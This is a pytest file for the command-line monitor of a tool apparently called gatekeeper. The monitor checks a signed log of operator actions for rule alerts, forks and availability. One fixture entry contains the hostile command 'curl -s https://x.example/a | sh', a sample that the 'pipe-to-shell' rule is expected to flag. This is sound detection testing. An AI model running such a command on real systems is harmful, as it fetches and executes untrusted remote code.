"""``gk monitor`` on the command line: --once exit statuses, alerts on stdout, config files,
status and unhalt, follow mode stopped by SIGTERM, and a clean error for a bad config."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from gatekeeper.action import Action, Target
from gatekeeper.cli import main
from gatekeeper.monitor.testing import FastSigner, synthetic_entries, write_static_log
from personality.tlog.note import Signer, generate_signer

ORIGIN = "example.com/cli-test"
ROOT = Path(__file__).parents[1]


@pytest.fixture
def key() -> Signer:
    return generate_signer(ORIGIN)


def lines(out: str) -> list[dict[str, object]]:
    return [json.loads(x) for x in out.splitlines() if x.strip()]


def test_once_with_rules_prints_alerts_and_exits_by_severity(
    tmp_path: Path, key: Signer, capsys: pytest.CaptureFixture[str]
) -> None:
    user = FastSigner()
    t = 1_780_000_000
    entries = [
        user.entry(
            Action(
                "exec",
                (Target("web-01"),),
                "root",
                c.encode(),
                bytes([i]) * 16,
                t,
                t + 60,
                user.public,
                "OPS-1",
            )
        )
        for i, c in enumerate(["uptime", "curl -s https://x.example/a | sh", "ls"])
    ]
    write_static_log(tmp_path / "log", entries, key)
    args = [
        "monitor",
        "--once",
        "--log",
        str(tmp_path / "log"),
        "--log-key",
        key.verifier().vkey(),
        "--state",
        str(tmp_path / "state"),
        "--rules",
        str(ROOT / "examples" / "monitor-rules.toml"),
        "--workers",
        "1",
    ]
    assert main(args) == 0
    out = capsys.readouterr()
    [alert] = lines(out.out)
    assert (alert["kind"], alert["rule"], alert["index"]) == ("rule", "pipe-to-shell", 1)
    assert "processed 3" in out.err
    # nothing new: no alerts; --fail-on only counts alerts of this round
    assert main([*args, "--fail-on", "high"]) == 0
    assert lines(capsys.readouterr().out) == []


def test_fail_on(tmp_path: Path, key: Signer, capsys: pytest.CaptureFixture[str]) -> None:
    entries, _ = synthetic_entries(50, workers=1)
    write_static_log(tmp_path / "log", entries, key)
    (tmp_path / "r.toml").write_text("[[rule]]\nname='any'\nseverity='medium'\ncommand='.'\n")
    base = [
        "monitor",
        "--once",
        "--log",
        str(tmp_path / "log"),
        "--log-key",
        key.verifier().vkey(),
        "--rules",
        str(tmp_path / "r.toml"),
        "--workers",
        "1",
    ]
    assert main([*base, "--state", str(tmp_path / "s1"), "--fail-on", "medium"]) == 1
    assert len(lines(capsys.readouterr().out)) == 50
    assert main([*base, "--state", str(tmp_path / "s2"), "--fail-on", "high"]) == 0


def test_config_file_two_logs_status_fork_and_unhalt(
    tmp_path: Path, key: Signer, capsys: pytest.CaptureFixture[str]
) -> None:
    entries, _ = synthetic_entries(300, workers=1)
    other_key = generate_signer("example.com/second")
    write_static_log(tmp_path / "log1", entries[:100], key)
    write_static_log(tmp_path / "log2", entries[100:], other_key)
    (tmp_path / "log2.vkey").write_text(other_key.verifier().vkey() + "\n")
    cfg = tmp_path / "monitor.toml"
    cfg.write_text(
        f"""
state = "state"
workers = 1
publish = "gossip"
[alerts]
stdout = true
[[log]]
name = "one"
dir = "log1"
key = "{key.verifier().vkey()}"
[[log]]
name = "two"
dir = "log2"
key_file = "log2.vkey"
"""
    )
    assert main(["monitor", "--config", str(cfg), "--once", "--no-progress"]) == 0
    assert "one: ok, size 100" in capsys.readouterr().err
    assert len((tmp_path / "gossip" / "index").read_text().split()) == 2
    # fork log one
    write_static_log(tmp_path / "log1", entries[150:250], key)
    assert main(["monitor", "--config", str(cfg), "--once"]) == 76
    out = capsys.readouterr()
    assert [a["kind"] for a in lines(out.out)] == ["fork"]
    assert main(["monitor", "status", "--state", str(tmp_path / "state")]) == 0
    status = {s["origin"]: s for s in lines(capsys.readouterr().out)}
    assert status[ORIGIN]["halted"]["kind"] == "fork"  # type: ignore[index]
    assert (
        status["example.com/second"]["halted"] is None
        and status["example.com/second"]["processed_size"] == 200
    )
    assert main(["monitor", "--config", str(cfg), "--once"]) == 76  # still halted
    capsys.readouterr()
    assert (
        main(
            [
                "monitor",
                "unhalt",
                "--state",
                str(tmp_path / "state"),
                "--origin",
                ORIGIN,
                "--who",
                "alice",
                "--note",
                "investigated INC-1",
            ]
        )
        == 0
    )
    assert "unhalted" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("argv", "needle"),
    [
        (["monitor", "--once"], "no log to watch"),
        (["monitor", "--once", "--log", "x"], "one --log-key per --log"),
        (["monitor", "--once", "--log", "x", "--log-key", "not-a-key"], "log key"),
    ],
)
def test_usage_errors_are_one_line(argv: list[str], needle: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(argv) == 78
    err = capsys.readouterr().err
    assert needle in err and "Traceback" not in err


def test_follow_mode_stops_on_sigterm(tmp_path: Path, key: Signer) -> None:
    entries, _ = synthetic_entries(20, workers=1)
    write_static_log(tmp_path / "log", entries, key)
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "gatekeeper",
            "monitor",
            "--log",
            str(tmp_path / "log"),
            "--log-key",
            key.verifier().vkey(),
            "--state",
            str(tmp_path / "state"),
            "--interval",
            "0.2",
            "--workers",
            "1",
            "--publish",
            str(tmp_path / "pub"),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    try:
        deadline = time.monotonic() + 20
        while not (tmp_path / "pub" / "index").exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert (tmp_path / "pub" / "index").exists()
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=20)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 0, err
    assert out == b""


def test_static_mirror_over_http_behind_a_token(
    tmp_path: Path, key: Signer, capsys: pytest.CaptureFixture[str]
) -> None:
    """A plain web server (no JSON API) with a bearer token on the read path: proofs come from
    the tiles, the token goes with every request, and without it the log is unavailable."""
    import functools
    import threading
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    entries, _ = synthetic_entries(600, workers=1)
    mirror = tmp_path / "mirror"
    write_static_log(mirror, entries[:300], key)

    class Guarded(SimpleHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server API
            if self.headers.get("Authorization") != "Bearer s3cret":
                self.send_error(401)
                return
            super().do_GET()

        def log_message(self, *a: object) -> None:
            pass

    srv = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Guarded, directory=str(mirror)))
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{srv.server_address[1]}"
    (tmp_path / "token").write_text("Authorization: Bearer s3cret\n")
    base = [
        "monitor",
        "--once",
        "--log",
        url,
        "--log-key",
        key.verifier().vkey(),
        "--workers",
        "1",
        "--state",
        str(tmp_path / "state"),
    ]
    try:
        assert main(base) == 69  # no token: unavailable, not an integrity alert
        assert [a["kind"] for a in lines(capsys.readouterr().out)] == ["unavailable"]
        assert main([*base, "--log-header", f"@{tmp_path / 'token'}"]) == 0
        write_static_log(mirror, entries, key)  # grows: consistency proven from tiles, not /proof
        assert main([*base, "--log-header", "Authorization: Bearer s3cret"]) == 0
        assert "processed 600" in capsys.readouterr().err
    finally:
        srv.shutdown()
        srv.server_close()
